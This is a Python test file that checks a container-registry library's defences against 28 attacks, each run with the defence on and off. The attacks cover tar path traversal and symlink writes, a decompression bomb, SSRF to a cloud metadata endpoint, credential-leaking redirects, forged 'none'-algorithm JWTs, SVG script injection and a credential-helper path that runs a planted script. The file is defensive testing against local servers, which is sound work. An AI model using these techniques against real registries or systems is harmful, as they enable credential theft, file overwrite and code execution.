"""The list of attacks on registries and their clients, by number: each fails, and succeeds without its defence.

Where the defence is how a thing is done and not a check that could be left out (files below a root, parts of an
archive), what stands against ours is the plain way of doing it: `tarfile.extractall`, `open(name)`.

An attack says whether it has succeeded. Parts of it have tests of their own: test_auth, test_credentials, test_client,
test_server_*; archives in tests/archive/test_attacks.py.
"""

import io
import json
import os
import stat
import tarfile
from collections.abc import Callable
from dataclasses import dataclass, field, replace
from http.client import HTTPConnection
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import jwt
import pytest
import zstandard

from pydock_lab.archive.apply import Policy, apply
from pydock_lab.archive.compress import decompress
from pydock_lab.archive.entry import Limits
from pydock_lab.archive.images import ImageArchive
from pydock_lab.archive.reader import TarReader
from pydock_lab.drawing import svg, to_svg
from pydock_lab.errors import PydockError
from pydock_lab.oci import Descriptor, Digest, Index, Manifest, MediaType, Platform, Reference, digest, manifest
from pydock_lab.oci import document as oci_document
from pydock_lab.registry import answers, auth, client, credentials, hosts, transfer, transport
from pydock_lab.registry.client import RegistryClient
from pydock_lab.registry.credentials import Credentials, Login, OneLogin
from pydock_lab.registry.hosts import Endpoint
from pydock_lab.registry.server import RegistryServer, listings, users
from pydock_lab.registry.server.blobs import Registry
from pydock_lab.registry.server.repository import Repository
from pydock_lab.registry.server.rights import Rights
from pydock_lab.registry.server.tokens import SERVICE, Tokens
from pydock_lab.registry.transfer import find_manifest, pull
from pydock_lab.runtime import identity
from pydock_lab.store import Store
from pydock_lab.views import RepositoryView, TagTree, TagView

ALICE = OneLogin(Login(username="alice", password="s3cret"))
AMD64 = Platform(os="linux", architecture="amd64")
LARGE = Limits(entries=1 << 40, size=1 << 50, ratio=1 << 40, extension=1 << 40)


@dataclass
class World:
    """What an attack has to work with; `is_open`: the defence is switched off."""

    folder: Path
    patch: pytest.MonkeyPatch
    serve: Callable[[], Any]
    is_open: bool
    stack: list[RegistryServer] = field(default_factory=list)

    def off(self, place: Any, name: str, value: Any) -> None:
        """Switch a defence off, if this is the time for it."""
        if self.is_open:
            self.patch.setattr(place, name, value)

    def server(self, **options: Any) -> RegistryServer:
        """A registry of ours."""
        found = RegistryServer(self.folder / f"registry{len(self.stack)}", **options).start()
        self.stack.append(found)
        return found

    def store(self) -> Store:
        return Store.open(self.folder / "store")


Attack = Callable[[World], bool]
ATTACKS: dict[int, Attack] = {}


def attack(number: int) -> Callable[[Attack], Attack]:
    """Put it into the list."""

    def keep(found: Attack) -> Attack:
        assert number not in ATTACKS
        ATTACKS[number] = found
        return found

    return keep


@pytest.mark.parametrize("number", range(1, 29))
@pytest.mark.parametrize("defence", ["on", "off"])
def test_attacks(
    number: int, defence: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, scripted: Callable[[], Any]
) -> None:
    world = World(tmp_path, monkeypatch, scripted, is_open=defence == "off")
    try:
        has_succeeded = ATTACKS[number](world)
    finally:
        for server in world.stack:
            server.stop()
    assert has_succeeded is world.is_open


def refused(do: Callable[[], object]) -> bool:
    """Whether it ends with an error of ours."""
    try:
        do()
    except PydockError:
        return True
    return False


def ask(address: str, method: str, path: str, body: bytes = b"", **headers: str) -> tuple[int, bytes]:
    """A request of nobody's client."""
    connection = HTTPConnection(address, timeout=10)
    connection.request(method, path, body, {name.replace("_", "-"): value for name, value in headers.items()})
    answer = connection.getresponse()
    try:
        return answer.status, answer.read()
    finally:
        connection.close()


def put_blob(address: str, repository: str, content: bytes, **headers: str) -> Digest:
    found = Digest.of(content)
    status, _ = ask(address, "POST", f"/v2/{repository}/blobs/uploads/?digest={found}", content, **headers)
    assert status == 201
    return found


def put_image(address: str, repository: str, tag: str, **headers: str) -> Digest:
    config = b'{"architecture":"amd64","os":"linux","rootfs":{"type":"layers","diff_ids":[]}}'
    put_blob(address, repository, config, **headers)
    content = Manifest(config=Descriptor.of(config, MediaType.CONFIG), layers=()).to_bytes()
    path = f"/v2/{repository}/manifests/{tag}"
    assert ask(address, "PUT", path, content, Content_Type=str(MediaType.MANIFEST), **headers)[0] == 201
    return Digest.of(content)


# ---- documents


@attack(1)
def wrong_bytes_under_a_digest(world: World) -> bool:
    world.off(RegistryClient, "_verify", lambda *_: None)
    script, good = world.serve(), Manifest(config=Descriptor.of(b"{}", MediaType.CONFIG), layers=()).to_bytes()
    path = f"/v2/app/manifests/{Digest.of(b'another one')}"
    script.serve(path, good, Content_Type=str(MediaType.MANIFEST))
    return not refused(lambda: RegistryClient(script.address).manifest("app", Digest.of(b"another one")))


@attack(2)
def a_digest_that_is_a_path(world: World) -> bool:
    (world.folder / "secret").write_text("s")
    world.store().blobs.put(b"so that there is a folder for blobs")
    anything = SimpleNamespace(fullmatch=lambda *_: True)
    world.off(digest, "_FORM", anything)
    world.off(digest, "re", anything)
    try:
        found = Digest("sha256:../../../secret")
    except PydockError:
        return False
    return world.store().blobs.has(found)


@attack(3)
def a_manifest_that_is_an_index_too(world: World) -> bool:
    world.off(manifest, "_checked", lambda content, what, **_: manifest.Node.read(content, what))
    server = world.server()
    config = put_blob(server.address, "app", b"{}")
    part = {"mediaType": str(MediaType.CONFIG), "digest": config, "size": 2}
    document = {"schemaVersion": 2, "mediaType": str(MediaType.MANIFEST), "config": part, "layers": [], "manifests": []}
    content = json.dumps(document).encode()
    status, _ = ask(server.address, "PUT", "/v2/app/manifests/1", content, Content_Type=str(MediaType.MANIFEST))
    return status == 201


@attack(4)
def a_manifest_of_forty_megabytes(world: World) -> bool:
    world.off(oci_document, "MAX_DOCUMENT", 1 << 30)
    world.off(client, "read_capped", lambda response: answers.read_capped(response, 1 << 30))
    script = world.serve()
    padded = Manifest(config=Descriptor.of(b"{}", MediaType.CONFIG), layers=()).to_bytes() + b" " * (40 << 20)
    script.serve("/v2/app/manifests/1", padded, Content_Type=str(MediaType.MANIFEST))
    return not refused(lambda: RegistryClient(script.address).manifest("app", "1"))


@attack(5)
def a_page_of_everything(world: World) -> bool:
    world.off(listings, "_NUMBER", listings.re.compile("-?[0-9]+"))
    world.off(listings, "_MAX_PAGE", 10**12)
    server = world.server()
    put_image(server.address, "app", "1")
    status, _ = ask(server.address, "GET", "/v2/_catalog?n=100000000000")
    return status == 200


# ---- archives: against what unpacks plainly


def tar_of(*members: tuple[str, bytes, str, bytes]) -> bytes:
    """Members: name, type, target, content."""
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as tar:
        for name, kind, target, content in members:
            entry = tarfile.TarInfo(name)
            entry.type, entry.linkname, entry.size, entry.mode = kind, target, len(content), 0o777
            tar.addfile(entry, io.BytesIO(content))
    return out.getvalue()


def unpacked(world: World, tar: bytes) -> Path:
    """Unpack it, by us or plainly, into a root beside `outside/secret`; that file."""
    root, secret = world.folder / "root", world.folder / "outside" / "secret"
    root.mkdir()
    secret.parent.mkdir()
    secret.write_text("untouched")
    secret.chmod(0o640)
    if world.is_open:
        with tarfile.open(fileobj=io.BytesIO(tar)) as archive:
            archive.extractall(root, **({"filter": "fully_trusted"} if hasattr(tarfile, "data_filter") else {}))
        return secret
    descriptor = os.open(root, os.O_RDONLY)
    try:
        refused(lambda: apply(io.BytesIO(tar), descriptor, policy=Policy()))
    finally:
        os.close(descriptor)
    return secret


@attack(6)
def dotdot_in_a_name(world: World) -> bool:
    tar = tar_of(("../outside/new", tarfile.REGTYPE, "", b"x"))
    return (unpacked(world, tar).parent / "new").exists()


@attack(7)
def writing_through_a_symlink(world: World) -> bool:
    tar = tar_of(("way", tarfile.SYMTYPE, "../outside", b""), ("way/secret", tarfile.REGTYPE, "", b"overwritten"))
    return unpacked(world, tar).read_text() == "overwritten"


@attack(8)
def writing_through_a_hardlink(world: World) -> bool:
    tar = tar_of(
        ("way", tarfile.LNKTYPE, "../outside/secret", b""),
        ("way", tarfile.REGTYPE, "", b"overwritten"),
    )
    return unpacked(world, tar).read_text() == "overwritten"


@attack(9)
def a_mode_through_a_symlink(world: World) -> bool:
    tar = tar_of(("way", tarfile.SYMTYPE, "../outside", b""), ("way", tarfile.DIRTYPE, "", b""))
    return stat.S_IMODE(unpacked(world, tar).parent.stat().st_mode) == 0o777


@attack(10)
def a_whiteout_through_a_symlink(world: World) -> bool:
    tar = tar_of(("way", tarfile.SYMTYPE, "../outside", b""), ("way/.wh.secret", tarfile.REGTYPE, "", b""))
    secret = unpacked(world, tar)
    if world.is_open:  # as one would write it: for each mark, remove what it names
        for mark in (world.folder / "root").glob("way/.wh.*"):
            mark.with_name(mark.name.removeprefix(".wh.")).unlink()
    return not secret.exists()


@attack(11)
def a_name_of_megabytes(world: World) -> bool:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w", format=tarfile.GNU_FORMAT) as tar:
        tar.addfile(tarfile.TarInfo("n/" * (2 << 20)))
    limits = replace(LARGE, extension=8 << 20) if world.is_open else Limits()
    try:
        list(TarReader(iter([out.getvalue()]), limits))
    except PydockError as error:
        return error.key != "archive.extension-size"
    return True


@attack(12)
def a_bomb(world: World) -> bool:
    bomb = zstandard.ZstdCompressor(level=19).compress(bytes(64 << 20)) * 20
    limits = LARGE if world.is_open else Limits()
    return not refused(lambda: sum(map(len, decompress(iter([bomb]), limits))))


# ---- where requests and papers go


@attack(13)
def a_layer_that_is_said_to_lie_elsewhere(world: World) -> bool:
    """`urls` of a foreign layer: ours asks nobody else; a client that does asks the metadata server of a cloud."""
    metadata, script, store = world.serve(), world.serve(), world.store()
    layer = b"layer"
    config = b'{"architecture":"amd64","os":"linux","rootfs":{"type":"layers","diff_ids":[]}}'
    url = f"http://{metadata.address}/latest/meta-data/"
    foreign = Descriptor.of(layer, MediaType.DOCKER_FOREIGN_GZIP).to_json() | {"urls": [url]}
    document = json.loads(Manifest(config=Descriptor.of(config, MediaType.CONFIG), layers=()).to_bytes())
    content = json.dumps(document | {"layers": [foreign]}).encode()
    script.serve("/v2/app/manifests/1", content, Content_Type=str(MediaType.MANIFEST))
    script.serve(f"/v2/app/blobs/{Digest.of(config)}", config)
    if world.is_open:
        for part in json.loads(content)["layers"]:
            ask(part["urls"][0].split("/")[2], "GET", "/latest/meta-data/")
    else:
        reference = Reference.parse(f"{script.address}/app:1")
        refused(lambda: pull(RegistryClient(script.address), reference, store.blobs, platform=AMD64))
    return bool(metadata.asked)


def redirected(world: World, header: str, login: OneLogin | None) -> bool:
    """A blob that lies elsewhere, at a host that collects what it is shown."""
    collector, script = world.serve(), world.serve()
    # Two ports are two origins; with the defence off all are one, also where plain http would not be followed.
    world.patch.setattr(Endpoint, "next", lambda _self, _current, target: target)
    script.answers["GET", "/v2/app/tags/list"] = (307, {"Location": f"http://{collector.address}/x"}, b"")
    collector.serve("/x", b'{"tags": []}')
    world.off(transport.Origin, "__eq__", lambda *_: True)
    found = RegistryClient(script.address, credentials=login)
    found._session._auth.header = lambda _scopes: header  # type: ignore[method-assign]
    found._session.request("GET", f"http://{script.address}/v2/app/tags/list")
    return any("Authorization" in headers for headers in collector.seen("/x"))


@attack(14)
def a_redirect_of_the_password(world: World) -> bool:
    return redirected(world, "Basic YWxpY2U6czNjcmV0", ALICE)


@attack(15)
def a_token_server_of_somebody_else(world: World) -> bool:
    collector, script = world.serve(), world.serve()
    realm = f'Bearer realm="http://{collector.address.replace("127.0.0.1", "127.0.0.2")}/token",service="x"'
    script.answers["GET", "/v2/"] = (401, {"WWW-Authenticate": realm.replace("127.0.0.2", "localhost")}, b"")
    collector.serve("/token", b'{"token": "t"}')
    world.off(auth.Authenticator, "_check_realm", lambda *_: None)
    refused(RegistryClient(script.address, credentials=ALICE).ping)
    return any("Authorization" in headers for headers in collector.seen("/token"))


@attack(16)
def a_redirect_of_the_token(world: World) -> bool:
    return redirected(world, "Bearer t0k3n", None)


@attack(17)
def a_password_over_plain_http(world: World) -> bool:
    world.off(hosts, "is_loopback", lambda _host: True)
    return Endpoint.of("registry.example.com").base.startswith("http://")


@attack(18)
def an_upload_to_somebody_else(world: World) -> bool:
    collector, script = world.serve(), world.serve()
    world.patch.setattr(
        Endpoint, "next", lambda self, _current, target: target if "//" in target else self.base + target
    )
    script.answers["POST", "/v2/app/blobs/uploads/"] = (202, {"Location": f"http://{collector.address}/u"}, b"")
    script.answers["HEAD", "/v2/app/blobs/" + Digest.of(b"x")] = (404, {}, b"")
    collector.answers["PUT", "/u"] = (201, {}, b"")
    collector.answers["PATCH", "/u"] = (202, {"Location": f"http://{collector.address}/u"}, b"")
    world.off(hosts.Origin, "__eq__", lambda *_: True)
    found = RegistryClient(script.address, credentials=ALICE)
    found._session._auth.header = lambda _scopes: "Basic YWxpY2U6czNjcmV0"  # type: ignore[method-assign]
    store = world.store()
    store.blobs.put(b"x")
    found.put_blob("app", Descriptor.of(b"x", MediaType.LAYER), store.blobs)
    return any("Authorization" in headers for headers in collector.seen("/u"))


# ---- who may what


@attack(19)
def a_blob_of_another_repository(world: World) -> bool:
    world.off(Repository, "has_blob", lambda *_: True)
    server = world.server()
    secret = put_blob(server.address, "private/app", b"secret")
    put_image(server.address, "public/app", "1")
    return ask(server.address, "GET", f"/v2/public/app/blobs/{secret}") == (200, b"secret")


@attack(20)
def deleting_where_nothing_is_deleted(world: World) -> bool:
    server = world.server(allow_delete=False)
    put_image(server.address, "app", "1")
    world.off(Registry, "allow_delete", True)
    return ask(server.address, "DELETE", "/v2/app/manifests/1")[0] == 202


@attack(21)
def mounting_what_one_may_not_pull(world: World) -> bool:
    server = world.server(users={"alice": "a", "bob": "b"}, grants=["alice:alice/*:push", "bob:bob/*:push"])
    alice, bob = ({"Authorization": f"Basic {word}"} for word in ("YWxpY2U6YQ==", "Ym9iOmI="))
    secret = put_blob(server.address, "alice/app", b"secret", **alice)
    world.off(Rights, "allow", lambda *_: True)
    path = f"/v2/bob/app/blobs/uploads/?mount={secret}&from=alice/app"
    return ask(server.address, "POST", path, b"", **bob)[0] == 201


@attack(22)
def a_token_of_one_s_own_making(world: World) -> bool:
    server = world.server(users={"alice": "a"}, tokens=True)
    put = {"Authorization": "Basic YWxpY2U6YQ=="}
    status, said = ask(server.address, "GET", "/token?service=x&scope=repository:app:pull,push", b"", **put)
    assert status == 200
    good = {"Authorization": f"Bearer {json.loads(said)['token']}"}
    put_image(server.address, "app", "1", **good)
    claims = jwt.decode(json.loads(said)["token"], options={"verify_signature": False})
    forged = jwt.encode(claims | {"exp": claims["exp"] + 10**6}, None, algorithm="none")
    unverified = {"verify_signature": False, "verify_aud": False}
    world.off(Tokens, "_verified", lambda _self, token, _audience: jwt.decode(token, options=unverified))
    assert claims["aud"] == SERVICE
    return ask(server.address, "GET", "/v2/app/manifests/1", b"", Authorization=f"Bearer {forged}")[0] == 200


@attack(23)
def who_is_there_by_the_time_it_takes(world: World) -> bool:
    """A name that there is costs a hash; one that there is not must cost one, too."""
    import bcrypt  # noqa: PLC0415 - what is counted

    path = world.folder / "htpasswd"
    path.write_bytes(b"alice:" + bcrypt.hashpw(b"pw", bcrypt.gensalt(4)) + b"\n")
    known = users.Htpasswd(path)
    hashed: list[bytes] = []

    def counting(password: bytes, wanted: bytes) -> bool:
        hashed.append(password)
        return bool(original(password, wanted))

    original = bcrypt.checkpw
    world.patch.setattr(bcrypt, "checkpw", counting)
    check = known.check
    if world.is_open:  # as one would write it
        known.check = lambda name, password: known.knows(name) and check(name, password)  # type: ignore[method-assign]
    known.check("alice", "wrong")
    of_known = len(hashed)
    known.check("nobody", "wrong")
    known.check("alice", "x" * 100)  # more than bcrypt takes: no error, and no shortcut
    return len(hashed) != 3 * of_known


# ---- what images, names and files say


@attack(24)
def a_user_whose_number_overflows(world: World) -> bool:
    """To the kernel 4294967295 is -1: nothing is changed, and the program goes on as root."""
    world.off(identity, "MOST", 2**64)
    return not refused(lambda: identity.resolve("4294967295", "", ""))


@attack(25)
def markup_in_names(world: World) -> bool:
    world.off(svg, "escape", lambda text, **_: text)
    name = '</text><script>alert("x")</script>'
    tag = TagView(name=name, digest=Digest.of(b"x"))
    view = TagTree(host="a.io", repositories=(RepositoryView(name=name, tags=(tag,), manifests=()),))
    return "<script>" in to_svg(view)


@attack(26)
def an_index_that_leads_to_itself(world: World) -> bool:
    """As far as digests let it: a chain of indexes, each of which names the next."""
    script = world.serve()
    content = Manifest(config=Descriptor.of(b"{}", MediaType.CONFIG), layers=()).to_bytes()
    kind = MediaType.MANIFEST
    for _ in range(40):
        script.serve(f"/v2/app/manifests/{Digest.of(content)}", content, Content_Type=str(kind))
        child = replace(Descriptor.of(content, kind), platform=AMD64)
        content, kind = Index(manifests=(child,)).to_bytes(), MediaType.INDEX
    script.serve("/v2/app/manifests/1", content, Content_Type=str(kind))
    world.off(transfer, "_MAX_DEPTH", 1000)
    reference = Reference.parse(f"{script.address}/app:1")
    refused(lambda: find_manifest(RegistryClient(script.address), reference, AMD64))
    return len(script.asked) > 10


@attack(27)
def a_part_of_an_archive_outside_of_it(world: World) -> bool:
    secret = world.folder / "secret"
    secret.write_text("secret")
    member = json.dumps([{"Config": str(secret), "RepoTags": [], "Layers": []}]).encode()
    tar = tar_of(("manifest.json", tarfile.REGTYPE, "", member))
    if world.is_open:
        return Path(json.loads(member)[0]["Config"]).read_text() == "secret"
    archive = ImageArchive(io.BytesIO(tar))
    return not refused(lambda: [archive.document(image.config) for image in archive.docker_images()])


@attack(28)
def a_helper_that_is_a_path(world: World) -> bool:
    proof, evil = world.folder / "proof", world.folder / "evil"
    evil.write_text(f"#!/bin/sh\ntouch {proof}\necho '{{}}'\n")
    evil.chmod(0o755)
    (world.folder / "here" / "docker-credential-x").mkdir(parents=True)
    world.patch.chdir(world.folder / "here")
    config = world.folder / "config.json"
    config.write_text(json.dumps({"credHelpers": {"a.io": "x/../../evil"}}))
    world.off(credentials, "_SUFFIX", credentials.re.compile(".*"))
    refused(lambda: Credentials(config).get("a.io"))
    return proof.exists()
